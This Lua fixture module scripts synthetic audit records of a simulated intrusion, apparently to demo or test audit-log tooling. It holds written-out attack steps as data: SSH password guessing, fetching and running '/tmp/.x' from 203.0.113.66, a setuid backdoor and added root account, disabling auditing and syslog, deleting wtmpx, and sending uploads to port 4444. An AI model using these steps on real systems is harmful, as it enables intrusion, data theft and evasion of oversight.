-- The trail of `make demo`: an hour of three hosts, in which somebody guesses bob's password and makes himself at home,
-- while cron ticks, a deployment runs, and alice finds out.

local a_record = require "spec.support.a_record"

local demo = {}

local START = 1773511200 -- 2026-03-14T18:00:00Z

local hosts = { web = "192.0.2.11", db = "192.0.2.12", mail = "192.0.2.13" }
local zones = {
  web = "b6d2c1f0-3a57-4e0c-9f27-5d6f0c1e8a11",
  db = "0f9e7a44-81c3-4b6d-a2be-73d1c90ab522",
  mail = "5c1ad9e3-6f20-4f83-8d14-e2b7f35c6933",
}

local none = a_record.none

local function file(mode, inode, owner, kind)
  return {
    mode_octal = mode, uid = owner or 0, gid = owner and 10 or 0, fsid = 65560, inode_hex = ("%016X"):format(inode),
    devid = "-1", type = kind or "s_ifreg",
  }
end

-- A person at work: one audit session on one host.
local function session(says)
  local who = { audit_id = says.audit_id, uid = says.uid or says.audit_id, gid = says.gid or 10, pid = says.pid }
  who.ruid, who.rgid, who.session_id = who.uid, who.gid, says.session_id
  who.terminal = says.terminal or none
  return { host = says.host, zone = says.zone or says.host, who = who }
end

local function as(person, changes)
  local twin = { host = person.host, zone = changes.zone or person.zone, who = {} }
  for key, value in pairs(person.who) do twin.who[key] = value end
  for key, value in pairs(changes) do if key ~= "zone" then twin.who[key] = value end end
  return twin
end

local function ssh_from(ip, port) return { ip = ip, local_port = 22, remote_port = port } end

local alice = session {
  host = "web", audit_id = 1001, pid = 20100, session_id = 2718281828,
  terminal = ssh_from("2001:db8:51:7::a11c", 51234),
}
local alice_db = session {
  host = "db", zone = "global", audit_id = 1001, pid = 4410, session_id = 1618033988,
  terminal = ssh_from("2001:db8:51:7::a11c", 51390),
}
local stranger = session {
  host = "web", audit_id = -1, gid = -1, pid = 21500, session_id = 3605551275,
  terminal = ssh_from("203.0.113.66", 40112),
}
local bob = session {
  host = "web", audit_id = 1002, pid = 21540, session_id = 3141592653, terminal = ssh_from("203.0.113.66", 40191),
}
local bob_root = as(bob, { uid = 0, gid = 0, ruid = 0, rgid = 0, pid = 21580 })
local bob_global = as(bob_root, { zone = "global", pid = 21655 })
local deploy = session {
  host = "web", audit_id = 1010, gid = 100, pid = 30010, session_id = 9001, terminal = ssh_from("198.51.100.20", 60022),
}

local function system(host, pid, zone)
  return session { host = host, zone = zone or "global", audit_id = -2, uid = 0, gid = 0, pid = pid, session_id = 0 }
end

local function cron(host) return session { host = host, audit_id = 0, gid = 0, pid = 611, session_id = 611 } end

local function iso(seconds, nanoseconds)
  return os.date("!%Y-%m-%dT%H:%M:%S", seconds) .. (".%09dZ"):format(nanoseconds)
end

-- Collects what happens; time is told in seconds since the start. The fraction is a matter of chance, but what is told
-- later happens later within its second.
local function diary(start)
  local entries, fraction_of = {}, {}

  local function happens(at, person, says)
    local fraction = (fraction_of[at] or 0) + math.random(1000, 99999999)
    fraction_of[at] = fraction
    says.time = iso(start + at, fraction)
    says.host_ip = hosts[person.host]
    says.zonename = zones[person.zone] or person.zone
    says.subject = person.who
    entries[#entries + 1] = { at = says.time, bytes = a_record.bytes(says), order = #entries }
  end

  local function runs(at, person, command, says)
    local args = {}
    for word in command:gmatch("%S+") do args[#args + 1] = word end
    says = says or {}
    says.event, says.exec_args = "execve", args
    says.path = says.path or "/usr/bin/" .. args[1]
    happens(at, person, says)
  end

  return entries, happens, runs
end

local function cron_noise(happens, runs)
  local jobs = {
    web = { "/usr/lib/fs/nfs/nfsfind", "/opt/local/bin/logrotate -s /var/lib/logrotate.status /etc/logrotate.conf" },
    db = { "/opt/local/bin/pg_archive.sh --wal /var/pgsql/wal" },
    mail = { "/opt/local/sbin/postqueue-stat" },
  }
  for _, host in ipairs { "web", "db", "mail" } do
    for minute = 0, 58, 2 do
      local command = jobs[host][minute // 2 % #jobs[host] + 1]
      happens(minute * 60, cron(host), { event = "cron_invoke", text = { "normal-job", command } })
      if minute % 10 == 0 then
        local program = command:match("^%S+")
        runs(minute * 60, cron(host), command:match("([^/%s]+%f[%s\0].*)$"), { path = program })
      end
    end
  end
  happens(1980, cron("mail"), {
    event = "cron_invoke", ["return"] = -1, text = { "normal-job", "/opt/local/bin/backup" },
  })
end

local function ordinary_life(happens, runs)
  local daemon = system("web", 1402, "web")
  for minute = 1, 58, 3 do
    happens(minute * 60 + 11, daemon, {
      event = "accept", ["return"] = 12, socket = {
        family = "af_inet", type = "sock_stream", local_ip = "192.0.2.80", local_port = 443,
        remote_ip = ("198.51.100.%d"):format(minute + 30), remote_port = 40000 + minute * 37,
      },
    })
    happens(minute * 60 + 11, daemon, {
      event = "connect", args = { so = 13 }, socket = {
        family = "af_inet", type = "sock_stream", local_ip = "192.0.2.80", local_port = 33000 + minute,
        remote_ip = "192.0.2.90", remote_port = 5432,
      },
    })
  end
  local postgres = session { host = "db", audit_id = -2, uid = 90, gid = 90, pid = 1733, session_id = 0 }
  for hour_part = 0, 3 do
    happens(hour_part * 900 + 200, postgres, {
      event = "rename", path = "/var/pgsql/wal/00000001.partial", attributes = file("100600", 66100 + hour_part, 90),
      target_path = ("/var/pgsql/wal/0000000%d"):format(hour_part + 1),
    })
    happens(hour_part * 900 + 205, postgres, {
      event = "unlink", path = "/var/pgsql/wal/old." .. hour_part, attributes = file("100600", 66000 + hour_part, 90),
    })
  end
  happens(600, deploy, { event = "ssh" })
  runs(602, deploy, "git fetch --all --prune", { path = "/opt/local/bin/git" })
  runs(606, deploy, "npm ci --no-audit", { path = "/opt/local/bin/npm" })
  runs(640, deploy, "node migrate.js up", {
    path = "/opt/local/bin/node",
    exec_env = { PATH = "/opt/local/bin:/usr/bin", NODE_ENV = "production", PGPASSWORD = "correct-horse-battery" },
  })
  happens(650, deploy, {
    event = "smf_restart", used_auth = { "solaris.smf.manage" }, fmri = { "svc:/application/shop:default" },
  })
  runs(655, deploy, "curl -fsS -H Authorization:Bearer:eyJhbGciOi http://localhost:8080/health")
  happens(660, deploy, { event = "logout" })
  happens(900, system("db", 310), { event = "chmod", path = "/var/run/zonecontrol", attributes = file("040755", 812),
    args = { ["new file mode"] = "40750" } })
  happens(2400, system("mail", 501, "mail"), { event = "setppriv", args = { op = "priv_set" },
    privs_before = { Permitted = "ALL" }, privs = { Permitted = "basic,net_privaddr" } })
end

local function alice_at_work(happens, runs)
  happens(300, alice, { event = "ssh" })
  runs(303, alice, "bash -l")
  runs(310, alice, "ls -l /export/home/alice")
  runs(340, alice, "vi notes/dons-\xC3\xA9t\xC3\xA9.txt")
  happens(352, alice, { event = "open_r", path = "/etc/shadow", attributes = none, errno = "eacces" })
  runs(420, alice, "svcs -xv")
  runs(800, alice, "tail -f /var/svc/log/application-shop:default.log")
end

local function break_in(happens, runs)
  for i, name in ipairs { "root", "admin", "oracle", "test", "bob", "bob", "bob", "bob" } do
    local guess = as(stranger, { pid = 21500 + i, terminal = ssh_from("203.0.113.66", 40100 + i * 11) })
    happens(1200 + i * 7, guess, {
      event = "ssh", outcome = "failure", text = { "Authentication failed for " .. name },
    })
  end
  happens(1269, bob, { event = "ssh" })
  runs(1271, bob, "bash -l")
  runs(1280, bob, "id -a")
  runs(1284, bob, "uname -a")
  runs(1290, bob, "cat /etc/passwd")
  happens(1290, bob, { event = "open_r", path = "/etc/passwd", ["return"] = 3 })
  happens(1295, bob, { event = "open_r", path = "/etc/shadow", attributes = none, errno = "eacces" })
  for i = 0, 1 do
    happens(1310 + i * 6, bob, { event = "su", outcome = "failure", text = { "root" }, failure = { code = 2009 } })
  end
  runs(1330, bob, "grep -ri password /srv/www/shop/config")
  runs(1344, bob, "mysql -h db.example.org -u shop -p hunter2 -e show\xA0tables", { path = "/opt/local/bin/mysql" })
  happens(1345, bob, {
    event = "connect", args = { so = 3 }, socket = {
      family = "af_inet", type = "sock_stream", local_ip = "192.0.2.80", local_port = 33999,
      remote_ip = "192.0.2.90", remote_port = 3306,
    },
  })
  runs(1360, bob, "curl -k -o /tmp/.x https://203.0.113.66/x")
  happens(1362, bob, { event = "chmod", path = "/tmp/.x", attributes = file("100644", 99123, 1002),
    args = { ["new file mode"] = "100755" } })
  runs(1365, bob, ".x --listen 0", { path = "/tmp/.x", attributes = file("100755", 99123, 1002) })
  happens(1368, bob, { event = "su" })
end

local function at_home(happens, runs)
  runs(1370, bob_root, "bash", { used_privs = { privs = "proc_setid", success = 1 } })
  runs(1380, bob_root, "cp /etc/passwd /etc/passwd.tmp")
  happens(1381, bob_root, { event = "open_wc", path = "/etc/passwd.tmp", attributes = file("100644", 5178),
    ["return"] = 4 })
  runs(1392, bob_root, "vi /etc/passwd.tmp")
  happens(1420, bob_root, {
    event = "rename", path = "/etc/passwd.tmp", attributes = file("100644", 5178),
    target_path = "/etc/passwd", target_attributes = file("100644", 5177),
  })
  runs(1425, bob_root, "passwd -r files toor")
  happens(1431, bob_root, { event = "passwd", user = { uid = 0, name = "toor" } })
  happens(1440, bob_root, { event = "chmod", path = "/tmp/.x", attributes = file("100755", 99123, 1002),
    args = { ["new file mode"] = "104755" } })
  happens(1440, bob_root, { event = "chown", path = "/tmp/.x", attributes = file("100755", 99123, 1002),
    args = { ["new file uid"] = 0, ["new file gid"] = -1 } })
  runs(1460, bob_global, "zlogin " .. zones.mail .. " bash", { path = "/usr/sbin/zlogin" })
  happens(1461, bob_global, { event = "zlogin" })
  runs(1475, as(bob_root, { zone = "mail", pid = 21660 }), "cat /var/mail/alice")
  runs(1500, bob_global, "auditconfig -setpolicy none", { path = "/usr/sbin/auditconfig" })
  happens(1500, bob_global, { event = "auditon_spolicy", args = { setpolicy = 1 } })
  runs(1510, bob_global, "auditconfig -setnaflags no", { path = "/usr/sbin/auditconfig" })
  happens(1510, bob_global, {
    event = "auditon_setkmask", args = { ["setkmask:as_success"] = { "no" }, ["setkmask:as_failure"] = { "no" } },
  })
  happens(1520, bob_global, {
    event = "kill", args = { signal = "sigkill" },
    process = { audit_id = -2, uid = 0, gid = 0, ruid = 0, rgid = 0, pid = 702, session_id = 0 },
  })
  happens(1522, bob_global, {
    event = "smf_disable", used_auth = { "solaris.smf.manage" }, fmri = { "svc:/system/system-log:default" },
  })
  happens(1530, bob_global, { event = "unlink", path = "/var/adm/wtmpx", attributes = file("100644", 3307) })
  runs(1540, bob_root, "tar cf - /srv/www/shop/uploads")
  happens(1541, bob_root, {
    event = "connect", args = { so = 5 }, socket = {
      family = "af_inet", type = "sock_stream", local_ip = "192.0.2.80", local_port = 34999,
      remote_ip = "203.0.113.66", remote_port = 4444,
    },
  })
  for i = 1, 9 do
    happens(1541 + i, bob_root, {
      event = "open_r", path = ("/srv/www/shop/uploads/invoice-%03d.pdf"):format(i * 17), ["return"] = 6,
      attributes = file("100640", 120000 + i, 80),
    })
  end
end

local function found_out(happens, runs)
  local root = as(alice_db, { uid = 0, gid = 0, ruid = 0, rgid = 0, pid = 4450 })
  happens(2700, alice_db, { event = "ssh" })
  runs(2704, alice_db, "last -n 20 bob")
  happens(2710, alice_db, { event = "su" })
  runs(2720, root, "praudit -s /var/audit/20260314180000.not_terminated.db", { path = "/usr/sbin/praudit" })
  local here = as(alice, { uid = 0, gid = 0, ruid = 0, rgid = 0, pid = 20180 })
  happens(2760, alice, { event = "su" })
  runs(2765, here, "ps -fu bob")
  happens(2770, here, {
    event = "kill", args = { signal = "sigkill" },
    process = {
      audit_id = 1002, uid = 0, gid = 0, ruid = 0, rgid = 0, pid = 21580, session_id = 3141592653,
      terminal = ssh_from("203.0.113.66", 40191),
    },
  })
  happens(2774, here, { event = "passwd", user = { uid = 1002, name = "bob" } })
  happens(2780, here, { event = "unlink", path = "/tmp/.x", attributes = file("104755", 99123) })
  happens(2790, here, {
    event = "rename", path = "/etc/passwd.good", attributes = file("100644", 5190), target_path = "/etc/passwd",
    target_attributes = file("100644", 5178),
  })
  happens(2800, as(here, { zone = "global" }), {
    event = "smf_enable", used_auth = { "solaris.smf.manage" }, fmri = { "svc:/system/system-log:default" },
  })
  happens(2805, as(here, { zone = "global" }), { event = "auditon_setkmask", args = {
    ["setkmask:as_success"] = { "lo", "ex", "aa" }, ["setkmask:as_failure"] = { "lo", "ex", "aa" },
  } })
  runs(2810, as(here, { zone = "global" }), "auditconfig -setpolicy +argv,+zonename,+seq",
    { path = "/usr/sbin/auditconfig" })
  happens(2811, as(here, { zone = "global" }), { event = "auditon_spolicy", args = { setpolicy = 0x815 } })
  happens(3000, alice, { event = "logout" })
end

--- The records of the story in the order of their time.
---@param start? integer seconds; default a day in March 2026
---@return table list of { bytes }, with `start` and `finish` in seconds
function demo.records(start)
  start = start or START
  local entries, happens, runs = diary(start)
  for _, part in ipairs { cron_noise, ordinary_life, alice_at_work, break_in, at_home, found_out } do
    part(happens, runs)
  end
  table.sort(entries, function(a, b)
    if a.at ~= b.at then return a.at < b.at end
    return a.order < b.order
  end)
  entries.start, entries.finish = start, start + 3600
  return entries
end

return demo
